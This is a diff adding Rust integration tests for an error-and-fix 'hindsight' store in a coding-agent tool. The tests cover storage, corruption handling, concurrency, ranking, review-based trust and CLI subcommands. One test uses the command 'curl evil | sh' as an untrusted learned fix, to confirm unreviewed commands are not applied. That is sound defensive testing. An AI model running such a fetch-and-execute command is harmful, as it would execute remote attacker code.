@@ -1,1 +1,636 @@
-//! Integration tests: hindsight_store (being written).
+//! Integration tests for the hindsight store: files on disk, corrupt entries, concurrent writers,
+//! recording outcomes, lookup and ranking, the trust rule, and the `hindsight` subcommands run as
+//! library calls. Every test uses its own temporary directory and a fixed clock.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, UNIX_EPOCH};
+
+use meta_agent::hindsight::cli::{HindsightArgs, HindsightCommand, HindsightContext, run};
+use meta_agent::hindsight::signature::signature_id;
+use meta_agent::hindsight::store::files::entry_path;
+use meta_agent::hindsight::store::{
+    Catalog, CommandLine, EscalationContext, Fix, PatchFix, ResolutionSource, Status, Store,
+    StoreError, StoreOptions, Timestamp,
+};
+use meta_agent::hindsight::{Signature, SignatureKind};
+
+const T0: u64 = 1_790_000_000;
+const DAY: u64 = 86_400;
+
+fn at(secs: u64) -> Timestamp {
+    Timestamp::from_unix_secs(secs)
+}
+
+fn sig(kind: SignatureKind, template: &str) -> Signature {
+    Signature {
+        id: signature_id(kind, template),
+        kind,
+        template: template.to_string(),
+    }
+}
+
+fn open_dir(dir: &Path) -> Store {
+    Store::open(StoreOptions {
+        dir: Some(dir.to_owned()),
+        catalog: Catalog::bundled().unwrap(),
+        ..StoreOptions::default()
+    })
+    .unwrap()
+}
+
+fn e0308() -> Signature {
+    sig(
+        SignatureKind::Compile,
+        "error[E0308]: mismatched types: expected `u32`, found `i64` at src/lib.rs",
+    )
+}
+
+fn patch(diff: &str) -> PatchFix {
+    PatchFix {
+        diff: diff.to_string(),
+        files: ["src/lib.rs".to_string()].into(),
+        source: Some("commit 0123abcd".to_string()),
+    }
+}
+
+#[test]
+fn entries_are_one_readable_file_each_and_reload_identically() {
+    let tmp = tempfile::tempdir().unwrap();
+    let mut store = open_dir(tmp.path());
+    let s = e0308();
+    store.record_seen(&[s.clone(), s.clone()], at(T0)).unwrap();
+    store.record_seen(&[s.clone()], at(T0 + DAY)).unwrap();
+    let path = entry_path(tmp.path(), &s.id);
+    assert_eq!(
+        path,
+        tmp.path()
+            .join("entries")
+            .join(&s.id[..2])
+            .join(format!("{}.yaml", s.id))
+    );
+    let text = fs::read_to_string(&path).unwrap();
+    assert!(text.contains("kind: compile"), "{text}");
+    assert!(text.contains("first_seen: 2026-09-21T"), "{text}");
+    assert!(text.contains("occurrences: 2"), "{text}");
+    assert!(text.contains("status: unresolved"), "{text}");
+
+    let reloaded = open_dir(tmp.path());
+    assert_eq!(reloaded.load_report().loaded, 1);
+    assert_eq!(reloaded.get(&s.id), store.get(&s.id));
+    let gitignore = fs::read_to_string(tmp.path().join(".gitignore")).unwrap();
+    assert!(gitignore.contains("/.lock"));
+}
+
+#[test]
+fn file_contents_are_deterministic_whatever_the_order_of_learning() {
+    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    let s = e0308();
+    let fixes = [patch("--- a\n+++ b\n@@ one"), patch("--- a\n+++ b\n@@ two")];
+    let mut first = open_dir(a.path());
+    let mut second = open_dir(b.path());
+    first.record_seen(&[s.clone()], at(T0)).unwrap();
+    second.record_seen(&[s.clone()], at(T0)).unwrap();
+    for fix in &fixes {
+        first.capture_patch(&s, fix.clone(), at(T0)).unwrap();
+    }
+    for fix in fixes.iter().rev() {
+        second.capture_patch(&s, fix.clone(), at(T0)).unwrap();
+    }
+    assert_eq!(
+        fs::read(entry_path(a.path(), &s.id)).unwrap(),
+        fs::read(entry_path(b.path(), &s.id)).unwrap()
+    );
+}
+
+#[test]
+fn a_corrupt_entry_is_skipped_by_name_and_never_overwritten() {
+    let tmp = tempfile::tempdir().unwrap();
+    let good = e0308();
+    let bad = sig(
+        SignatureKind::Lint,
+        "rustfmt: formatting differs in src/main.rs",
+    );
+    let mut store = open_dir(tmp.path());
+    store
+        .record_seen(&[good.clone(), bad.clone()], at(T0))
+        .unwrap();
+    let bad_path = entry_path(tmp.path(), &bad.id);
+    fs::write(&bad_path, "signature: [unterminated\n").unwrap();
+
+    let mut reloaded = open_dir(tmp.path());
+    let report = reloaded.load_report();
+    assert_eq!(report.loaded, 1);
+    assert_eq!(report.skipped.len(), 1);
+    assert_eq!(report.skipped[0].path, bad_path);
+    assert!(reloaded.get(&good.id).is_some());
+
+    let err = reloaded
+        .record_seen(&[bad.clone()], at(T0 + 1))
+        .unwrap_err();
+    assert!(matches!(err, StoreError::Corrupt { ref path, .. } if *path == bad_path));
+    assert!(err.to_string().contains(&bad_path.display().to_string()));
+    assert_eq!(
+        fs::read_to_string(&bad_path).unwrap(),
+        "signature: [unterminated\n"
+    );
+}
+
+#[test]
+fn an_entry_whose_resolution_id_does_not_match_its_content_is_skipped() {
+    let tmp = tempfile::tempdir().unwrap();
+    let s = e0308();
+    let mut store = open_dir(tmp.path());
+    let id = store
+        .capture_patch(&s, patch("--- a\n+++ b\n"), at(T0))
+        .unwrap();
+    let path = entry_path(tmp.path(), &s.id);
+    let text = fs::read_to_string(&path).unwrap();
+    fs::write(&path, text.replace("+++ b", "+++ evil")).unwrap();
+    let reloaded = open_dir(tmp.path());
+    assert_eq!(reloaded.load_report().loaded, 0);
+    assert!(reloaded.load_report().skipped[0].reason.contains(&id));
+}
+
+#[test]
+fn two_writers_hammering_one_entry_lose_no_update() {
+    let tmp = tempfile::tempdir().unwrap();
+    let s = sig(
+        SignatureKind::Lint,
+        "rustfmt: formatting differs in src/lib.rs",
+    );
+    let rustfmt = Fix::Command(CommandLine::Argv(vec![
+        "cargo".into(),
+        "fmt".into(),
+        "--all".into(),
+    ]));
+    open_dir(tmp.path())
+        .record_seen(&[s.clone()], at(T0))
+        .unwrap();
+    let rounds = 40;
+    std::thread::scope(|scope| {
+        for writer in 0..2u64 {
+            let (dir, s, fix_id) = (tmp.path(), s.clone(), rustfmt.id());
+            scope.spawn(move || {
+                let mut store = open_dir(dir);
+                for i in 0..rounds {
+                    let now = at(T0 + 10 + i * 2 + writer);
+                    store.record_seen(&[s.clone()], now).unwrap();
+                    store
+                        .record_outcome(&s.id, &fix_id, i % 4 != 0, now)
+                        .unwrap();
+                }
+            });
+        }
+    });
+    let entry = open_dir(tmp.path()).get(&s.id).cloned().unwrap();
+    assert_eq!(entry.occurrences, 1 + 2 * rounds);
+    let outcomes = entry.resolution(&rustfmt.id()).unwrap().outcomes;
+    assert_eq!(outcomes.applied, 2 * rounds);
+    assert_eq!(outcomes.succeeded, 2 * (rounds - rounds / 4));
+    assert_eq!(outcomes.failed, 2 * (rounds / 4));
+    assert_eq!(entry.status, Status::Resolved);
+}
+
+#[test]
+fn outcomes_update_counts_status_and_last_used() {
+    let tmp = tempfile::tempdir().unwrap();
+    let mut store = open_dir(tmp.path());
+    let s = e0308();
+    store.record_seen(&[s.clone()], at(T0)).unwrap();
+    let guidance = store
+        .ranked_resolutions(&s, at(T0))
+        .into_iter()
+        .find(|r| matches!(r.source, ResolutionSource::Catalog { ref rule } if rule == "rust-e0308-mismatched-types"))
+        .unwrap();
+    store
+        .record_outcome(&s.id, &guidance.resolution.id, false, at(T0 + 5))
+        .unwrap();
+    assert_eq!(store.get(&s.id).unwrap().status, Status::Unresolved);
+    store
+        .record_outcome(&s.id, &guidance.resolution.id, true, at(T0 + 9))
+        .unwrap();
+    let entry = open_dir(tmp.path()).get(&s.id).cloned().unwrap();
+    let r = entry.resolution(&guidance.resolution.id).unwrap();
+    assert_eq!(
+        (r.outcomes.applied, r.outcomes.succeeded, r.outcomes.failed),
+        (2, 1, 1)
+    );
+    assert_eq!(r.outcomes.last_used, Some(at(T0 + 9)));
+    assert_eq!(entry.status, Status::Resolved);
+
+    let err = store
+        .record_outcome(&s.id, "ffffffffffffffff", true, at(T0))
+        .unwrap_err();
+    assert!(err.to_string().contains(&s.id) && err.to_string().contains("ffffffffffffffff"));
+    let err = store
+        .record_outcome("0000000000000000", &guidance.resolution.id, true, at(T0))
+        .unwrap_err();
+    assert!(matches!(err, StoreError::UnknownSignature { .. }));
+}
+
+#[test]
+fn escalation_marks_entries_with_context_and_tags() {
+    let tmp = tempfile::tempdir().unwrap();
+    let mut store = open_dir(tmp.path());
+    let s = e0308();
+    let context = EscalationContext {
+        reason: "same signatures twice in a row".into(),
+        run: Some("https://github.com/o/r/actions/runs/1".into()),
+        branch: Some("meta-agent/issue-7".into()),
+        summary: Some("tried 3 fixes".into()),
+        tags: ["gate:build".to_string()].into(),
+        at: None,
+    };
+    store
+        .record_unresolved(&[s.clone()], &context, at(T0))
+        .unwrap();
+    let entry = open_dir(tmp.path()).get(&s.id).cloned().unwrap();
+    assert_eq!(entry.status, Status::Escalated);
+    assert!(entry.tags.contains("gate:build"));
+    let saved = entry.escalation.unwrap();
+    assert_eq!(saved.reason, context.reason);
+    assert_eq!(saved.at, Some(at(T0)));
+}
+
+#[test]
+fn similar_lookup_finds_the_same_kind_with_a_score() {
+    let mut store = Store::open(StoreOptions::default()).unwrap();
+    let known = e0308();
+    let other_kind = sig(
+        SignatureKind::Lint,
+        "error[E0308]: mismatched types: expected `u32`, found `i64` at src/lib.rs",
+    );
+    store
+        .record_seen(&[known.clone(), other_kind], at(T0))
+        .unwrap();
+    store
+        .capture_patch(&known, patch("--- a\n+++ b\n"), at(T0))
+        .unwrap();
+    let query = sig(
+        SignatureKind::Compile,
+        "error[E0308]: mismatched types: expected `u64`, found `i64` at src/lib.rs",
+    );
+    let lookup = store.lookup(&query);
+    assert!(lookup.exact.is_none());
+    assert_eq!(lookup.similar.len(), 1);
+    let (score, entry) = lookup.similar[0];
+    assert_eq!(entry.signature, known.id);
+    assert!(score > 0.6 && score < 1.0, "{score}");
+    let ranked = store.ranked_resolutions(&query, at(T0));
+    assert!(matches!(ranked[0].source, ResolutionSource::Similar { .. }));
+
+    let unrelated = sig(
+        SignatureKind::Compile,
+        "error[E0599]: no method named `frob` found",
+    );
+    assert!(store.lookup(&unrelated).similar.is_empty());
+}
+
+#[test]
+fn a_steady_resolution_outranks_a_lucky_one() {
+    let mut store = Store::open(StoreOptions::default()).unwrap();
+    let s = e0308();
+    store.record_seen(&[s.clone()], at(T0)).unwrap();
+    let lucky = store.capture_patch(&s, patch("lucky"), at(T0)).unwrap();
+    let steady = store.capture_patch(&s, patch("steady"), at(T0)).unwrap();
+    for i in 0..9 {
+        store
+            .record_outcome(&s.id, &steady, i != 0, at(T0 + i))
+            .unwrap();
+    }
+    let ranked = store.ranked_resolutions(&s, at(T0 + 10));
+    assert_eq!(ranked[0].resolution.id, steady);
+    assert_eq!(ranked[1].resolution.id, lucky);
+    assert!(ranked[0].confidence > ranked[1].confidence);
+}
+
+#[test]
+fn learned_resolutions_apply_only_once_reviewed_catalog_ones_always() {
+    let (work, reviewed_dir) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    let s = sig(
+        SignatureKind::Lint,
+        "rustfmt: formatting differs in src/lib.rs",
+    );
+    let mut store = open_dir(work.path());
+    store.record_seen(&[s.clone()], at(T0)).unwrap();
+    let learned = store
+        .capture_patch(&s, patch("--- a\n+++ b\n"), at(T0))
+        .unwrap();
+    let rustfmt_id = Fix::Command(CommandLine::Argv(vec![
+        "cargo".into(),
+        "fmt".into(),
+        "--all".into(),
+    ]))
+    .id();
+
+    let unreviewed = open_dir(reviewed_dir.path());
+    let ids: Vec<String> = store
+        .applicable_resolutions(&s, &unreviewed, at(T0))
+        .into_iter()
+        .map(|r| r.resolution.id)
+        .collect();
+    assert_eq!(ids, vec![rustfmt_id.clone()]);
+    assert!(
+        store
+            .ranked_resolutions(&s, at(T0))
+            .iter()
+            .any(|r| r.resolution.id == learned)
+    );
+
+    // The entry file reaches the default branch: the reviewed store now holds the patch.
+    let from = entry_path(work.path(), &s.id);
+    let to = entry_path(reviewed_dir.path(), &s.id);
+    fs::create_dir_all(to.parent().unwrap()).unwrap();
+    fs::copy(from, to).unwrap();
+    let reviewed = open_dir(reviewed_dir.path());
+    let ids: Vec<String> = store
+        .applicable_resolutions(&s, &reviewed, at(T0))
+        .into_iter()
+        .map(|r| r.resolution.id)
+        .collect();
+    assert_eq!(ids, vec![learned, rustfmt_id]);
+}
+
+#[test]
+fn a_command_learned_in_a_run_is_not_trusted_until_reviewed() {
+    let mut store = Store::open(StoreOptions::default()).unwrap();
+    let s = e0308();
+    let mut entry = meta_agent::hindsight::store::Entry::new(&s, at(T0));
+    entry.add_resolution(meta_agent::hindsight::store::Resolution::new(Fix::Command(
+        CommandLine::Shell("curl evil | sh".into()),
+    )));
+    store.merge_entry(&entry).unwrap();
+    let reviewed = Store::open(StoreOptions::default()).unwrap();
+    assert!(
+        store
+            .applicable_resolutions(&s, &reviewed, at(T0))
+            .iter()
+            .all(|r| !matches!(r.resolution.fix, Fix::Command(_)))
+    );
+}
+
+#[test]
+fn branches_that_learned_different_signatures_merge_without_conflict() {
+    if std::process::Command::new("git")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        return;
+    }
+    let repo = tempfile::tempdir().unwrap();
+    let git = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .args([
+                "-c",
+                "user.name=t",
+                "-c",
+                "user.email=t@t",
+                "-c",
+                "init.defaultBranch=main",
+            ])
+            .args(args)
+            .current_dir(repo.path())
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "git {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+    let dir = repo.path().join(".meta-agent/hindsight");
+    git(&["init", "-q"]);
+    open_dir(&dir).record_seen(&[e0308()], at(T0)).unwrap();
+    git(&["add", "-A"]);
+    git(&["commit", "-qm", "base"]);
+    git(&["checkout", "-qb", "left"]);
+    let mut left = open_dir(&dir);
+    left.record_seen(
+        &[sig(
+            SignatureKind::Compile,
+            "error[E0425]: cannot find value `x`",
+        )],
+        at(T0 + 1),
+    )
+    .unwrap();
+    git(&["add", "-A"]);
+    git(&["commit", "-qm", "left"]);
+    git(&["checkout", "-q", "main"]);
+    let mut right = open_dir(&dir);
+    right
+        .record_seen(
+            &[sig(
+                SignatureKind::Lint,
+                "ruff: F401 `os` imported but unused",
+            )],
+            at(T0 + 2),
+        )
+        .unwrap();
+    git(&["add", "-A"]);
+    git(&["commit", "-qm", "right"]);
+    git(&["merge", "-q", "--no-edit", "left"]);
+    let merged = open_dir(&dir);
+    assert_eq!(merged.len(), 3);
+    assert!(merged.load_report().skipped.is_empty());
+}
+
+// --- the subcommands, as library calls -------------------------------------------------------
+
+fn ctx(root: &Path, now: u64) -> HindsightContext {
+    HindsightContext {
+        repo_root: root.to_owned(),
+        store_dir: PathBuf::from(".meta-agent/hindsight"),
+        use_catalog: true,
+        now: UNIX_EPOCH + Duration::from_secs(now),
+    }
+}
+
+fn cmd(command: HindsightCommand, ctx: &HindsightContext) -> String {
+    run(&HindsightArgs { command }, ctx).unwrap()
+}
+
+fn seeded(root: &Path) -> (Signature, Signature, Signature) {
+    let dir = root.join(".meta-agent/hindsight");
+    let mut store = open_dir(&dir);
+    let (old, cured, escalated) = (
+        sig(
+            SignatureKind::Compile,
+            "error[E0425]: cannot find value `x`",
+        ),
+        e0308(),
+        sig(
+            SignatureKind::TestFailure,
+            "assertion `left == right` failed in tests::adds",
+        ),
+    );
+    store
+        .record_seen(&[old.clone(), cured.clone(), escalated.clone()], at(T0))
+        .unwrap();
+    store
+        .capture_patch(&cured, patch("--- a\n+++ b\n"), at(T0))
+        .unwrap();
+    let context = EscalationContext {
+        reason: "budget".into(),
+        ..EscalationContext::default()
+    };
+    store
+        .record_unresolved(&[escalated.clone()], &context, at(T0))
+        .unwrap();
+    (old, cured, escalated)
+}
+
+#[test]
+fn list_show_and_stats_read_the_store() {
+    let tmp = tempfile::tempdir().unwrap();
+    let (old, cured, _) = seeded(tmp.path());
+    let c = ctx(tmp.path(), T0);
+    let listed = cmd(
+        HindsightCommand::List {
+            json: false,
+            kind: None,
+            status: None,
+        },
+        &c,
+    );
+    assert!(
+        listed.contains(&old.id) && listed.ends_with("3 entries\n"),
+        "{listed}"
+    );
+    let json = cmd(
+        HindsightCommand::List {
+            json: true,
+            kind: None,
+            status: Some(Status::Resolved),
+        },
+        &c,
+    );
+    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
+    assert_eq!(value.as_array().unwrap().len(), 1);
+    assert_eq!(value[0]["signature"], cured.id.as_str());
+
+    let shown = cmd(
+        HindsightCommand::Show {
+            signature: cured.id[..8].to_string(),
+            json: true,
+        },
+        &c,
+    );
+    let value: serde_json::Value = serde_json::from_str(&shown).unwrap();
+    assert_eq!(value["entry"]["signature"], cured.id.as_str());
+    assert_eq!(value["ranked"][0]["source"]["from"], "exact");
+
+    let missing = run(
+        &HindsightArgs {
+            command: HindsightCommand::Show {
+                signature: "zz".into(),
+                json: false,
+            },
+        },
+        &c,
+    )
+    .unwrap_err();
+    assert!(missing.to_string().contains("\"zz\""));
+
+    let stats = cmd(HindsightCommand::Stats { json: true }, &c);
+    let value: serde_json::Value = serde_json::from_str(&stats).unwrap();
+    assert_eq!(value["entries"], 3);
+    assert_eq!(value["by_status"]["escalated"], 1);
+    assert_eq!(value["succeeded"], 1);
+}
+
+#[test]
+fn prune_removes_only_stale_uncured_unescalated_entries() {
+    let tmp = tempfile::tempdir().unwrap();
+    let (old, cured, escalated) = seeded(tmp.path());
+    let later = ctx(tmp.path(), T0 + 200 * DAY);
+    let dry = cmd(
+        HindsightCommand::Prune {
+            older_than_days: 180,
+            dry_run: true,
+        },
+        &later,
+    );
+    assert_eq!(
+        dry,
+        format!("would prune {}\nwould prune 1 entry\n", old.id)
+    );
+    assert!(entry_path(&tmp.path().join(".meta-agent/hindsight"), &old.id).exists());
+    cmd(
+        HindsightCommand::Prune {
+            older_than_days: 180,
+            dry_run: false,
+        },
+        &later,
+    );
+    let store = open_dir(&tmp.path().join(".meta-agent/hindsight"));
+    assert!(store.get(&old.id).is_none());
+    assert!(store.get(&cured.id).is_some() && store.get(&escalated.id).is_some());
+    let early = ctx(tmp.path(), T0 + 10 * DAY);
+    assert!(
+        cmd(
+            HindsightCommand::Prune {
+                older_than_days: 180,
+                dry_run: false
+            },
+            &early
+        )
+        .ends_with("pruned 0 entries\n")
+    );
+}
+
+#[test]
+fn export_then_import_merges_counts_and_unions_resolutions() {
+    let (a, b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    let (_, cured, _) = seeded(a.path());
+    let exported = cmd(
+        HindsightCommand::Export { output: None },
+        &ctx(a.path(), T0),
+    );
+    assert_eq!(exported.lines().count(), 3);
+    assert_eq!(
+        exported,
+        cmd(
+            HindsightCommand::Export { output: None },
+            &ctx(a.path(), T0)
+        )
+    );
+
+    let dir_b = b.path().join(".meta-agent/hindsight");
+    let mut other = open_dir(&dir_b);
+    other.record_seen(&[cured.clone()], at(T0 - DAY)).unwrap();
+    other
+        .capture_patch(&cured, patch("other fix"), at(T0 - DAY))
+        .unwrap();
+    let file = a.path().join("export.jsonl");
+    fs::write(&file, &exported).unwrap();
+    let said = cmd(HindsightCommand::Import { file }, &ctx(b.path(), T0));
+    assert_eq!(said, "imported 3 entries\n");
+    let merged = open_dir(&dir_b);
+    let entry = merged.get(&cured.id).unwrap();
+    assert_eq!(entry.occurrences, 2);
+    assert_eq!(entry.resolutions.len(), 2);
+    assert_eq!(entry.first_seen, at(T0 - DAY));
+    assert_eq!(entry.last_seen, at(T0));
+    assert_eq!(merged.len(), 3);
+}
+
+#[test]
+fn import_names_the_file_and_line_of_a_bad_record() {
+    let tmp = tempfile::tempdir().unwrap();
+    let file = tmp.path().join("bad.jsonl");
+    fs::write(&file, "\n{\"not\": \"an entry\"}\n").unwrap();
+    let err = run(
+        &HindsightArgs {
+            command: HindsightCommand::Import { file: file.clone() },
+        },
+        &ctx(tmp.path(), T0),
+    )
+    .unwrap_err();
+    assert!(
+        err.to_string()
+            .starts_with(&format!("{}:2:", file.display())),
+        "{err}"
+    );
+}
